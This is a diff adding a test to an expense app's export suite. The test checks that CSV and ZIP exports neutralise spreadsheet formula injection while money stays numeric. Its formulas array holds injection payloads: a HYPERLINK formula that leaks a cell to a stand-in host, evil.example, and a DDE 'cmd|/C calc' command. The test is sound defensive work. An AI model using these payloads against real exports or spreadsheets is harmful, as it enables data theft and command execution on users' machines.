@@ -11,6 +11,7 @@ import { BAR_AREA, BAR_COLOUR } from '../../src/bots/report-files/render-chart.j
 import { signReportLink } from '../../src/bots/report-files/report-link-token.js';
 import * as schema from '../../src/storage/schema/index.js';
 import { createOutlayHarness, expenseIdIn, type OutlayHarness, replyText } from '../support/outlay-app.js';
+import { expectReadmeFigures } from '../support/security-figures.js';
 import { testEngines } from '../support/test-databases.js';
 
 const ONE_PIXEL_PNG = Buffer.from(
@@ -160,6 +161,62 @@ describe.each(testEngines())('exports and charts over HTTP on %s', (engine) => {
     expect(Buffer.from(files[`receipts/${ids.train}-1.png`] ?? [])).toEqual(ONE_PIXEL_PNG);
     const csv = files['acme-2030-03-01-2030-03-31.csv'];
     expect(csvRows(Buffer.from(csv ?? [])).length).toBe(5);
+  });
+
+  it('neutralises text a spreadsheet would evaluate, in the CSV and in the ZIP, internal and client-facing; money stays numbers', async () => {
+    const formulas = [
+      '=HYPERLINK(CONCAT(http://evil.example/?leak=,A1))',
+      '+1+cmd|/C calc',
+      '-2+3',
+      '@SUM(1,2)',
+    ];
+    const injected: string[] = [];
+    for (const [i, formula] of formulas.entries()) {
+      injected.push(await log(`${10 + i} @acme #meals 3/8 "${formula}" merchant:"${formula}"`));
+    }
+    for (const id of injected) expect(await say('bob', `approve ${id}`)).toContain(id);
+    await say('ada', 'adjust @acme -12.50 #meals credit note');
+
+    const tally = { tried: 0, accepted: 0, serverErrors: 0 };
+    const download = async (path: string) => {
+      const response = await get(path);
+      if (response.statusCode >= 500) tally.serverErrors += 1;
+      return response.rawPayload;
+    };
+    const cellOf = (rows: string[][], id: string, column: string) =>
+      rows.find((r) => r[0] === id)?.[rows[0]?.indexOf(column) ?? -1];
+    const check = (rows: string[][]) => {
+      formulas.forEach((formula, i) => {
+        const id = injected[i] ?? '';
+        for (const column of ['Description', 'Merchant']) {
+          tally.tried += 1;
+          if (cellOf(rows, id, column) !== `'${formula}`) tally.accepted += 1;
+        }
+        expect(cellOf(rows, id, 'Amount')).toBe(`${10 + i}.00`);
+      });
+      // No text cell anywhere starts with what a spreadsheet evaluates; the only such cells are money, as numbers.
+      for (const row of rows) {
+        for (const [c, cell] of row.entries()) {
+          if (!/^[=+\-@\t\r\n]/.test(cell)) continue;
+          expect(['Amount', 'Original amount']).toContain(rows[0]?.[c]);
+          expect(cell).toMatch(/^-\d+\.\d{2}$/);
+        }
+      }
+    };
+    const csvIn = (zip: Buffer) =>
+      csvRows(Buffer.from(unzipSync(new Uint8Array(zip))['acme-2030-03-01-2030-03-31.csv'] ?? []));
+    const internal = csvRows(await download(await exportLink('csv')));
+    check(internal);
+    expect(internal.some((r) => r.includes('-12.50'))).toBe(true);
+    check(csvIn(await download(await exportLink('zip'))));
+    check(csvRows(await download(await exportLink('csv', CLIENT_CHANNEL))));
+    check(csvIn(await download(await exportLink('zip', CLIENT_CHANNEL))));
+    expect(tally.tried).toBe(formulas.length * 2 * 4);
+    expectReadmeFigures('CSV formula injection', {
+      tried: tally.tried,
+      accepted: tally.accepted,
+      '5xx': tally.serverErrors,
+    });
   });
 
   /** The chart has no command of its own (reports carry its link), so the test signs one as linksFor would. */
